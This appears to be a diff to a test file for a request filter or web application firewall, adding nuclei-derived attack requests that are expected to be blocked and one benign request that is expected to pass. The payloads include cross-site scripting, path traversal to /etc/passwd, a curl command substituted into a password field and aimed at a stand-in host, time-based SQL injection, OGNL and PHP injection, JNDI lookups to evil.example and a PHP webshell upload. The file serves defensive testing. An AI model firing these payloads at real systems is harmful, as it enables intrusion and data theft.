@@ -64,6 +64,15 @@ test("attacks are blocked wherever they are, with the class in the reply and not
     ["jndi", send("GET", "/api/items", [["x-api-version", "${jndi:ldap://evil.example/a}"]])],
     ["jndi", send("GET", "/api/items", [["x-forwarded-host", "${${::-j}${::-n}di:rmi://evil.example/x}"]])],
     ["ssti", send("GET", "/api/items", [["x-tenant", "${T(java.lang.Runtime).getRuntime().exec('id')}"]])],
+    // Protocol headers whose grammar never holds markup or a parent directory (nuclei: CVE-2022-24181, CVE-2019-5418).
+    ["xss", send("GET", "/", [["x-forwarded-host", "foo\"><script>alert(document.domain)</script>"]])],
+    ["traversal", send("GET", "/", [["accept", "../../../../../../../../etc/passwd{{"]])],
+    // Shapes of nuclei's CVE templates: command substitution in a password field (CVE-2023-25717), a backquoted
+    // column closed in ORDER BY (CVE-2022-24266), OGNL evaluation (CVE-2019-0230), PHP's concatenation (CVE-2021-30461).
+    ["cmdi", send("POST", "/admin/login", [["content-type", "application/x-www-form-urlencoded"]], ["username=admin&password=password%24(curl%20c0ffee.example.net)"])],
+    ["sqli", send("GET", "/list?order_by=id%60%2Cif(SUBSTRING(%27test%27%2C1%2C1)%3D%27t%27%2Csleep(6)%2Csleep(0))--%20-")],
+    ["ssti", send("GET", "/index.action?id=%25%7B128*128%7D")],
+    ["cmdi", send("POST", "/spool", [["content-type", "application/x-www-form-urlencoded"]], ["SPOOLDIR=test%22.system(id).%22"])],
     ["jndi", send("POST", "/api/items", [["content-type", "application/json"]], ['{"foo": "$&lbrace;jndi:ldap://evil.example/webshell&rbrace;"}'])],
     // A raw-body upload named by X-Filename (and its spellings): a name the web server runs, traversal.
     ["malware", send("PUT", "/upload", [["x-filename", "shell.php"], ["content-type", "application/octet-stream"]], ["<?php echo 1; ?>"])],
@@ -180,6 +189,7 @@ test("attack tools: a scanner's User-Agent, an out-of-band testing domain in a h
   const passed = [
     send("GET", "/api/items", [["user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36"]]),
     send("GET", "/api/items", [["user-agent", "kube-probe/1.28"], ["x-forwarded-host", "api.example.com"]]),
+    send("GET", "/api/items", [["accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"], ["x-forwarded-host", "shop.internal:8443"], ["if-none-match", "\"abc\""]]),
     send("GET", "/api/docs?link=https%3A%2F%2Finteract.sh%2F"),
     send("POST", "/api/notes", json, ['{"text":"Nuclei and sqlmap are scanners we run in CI"}']),
   ];
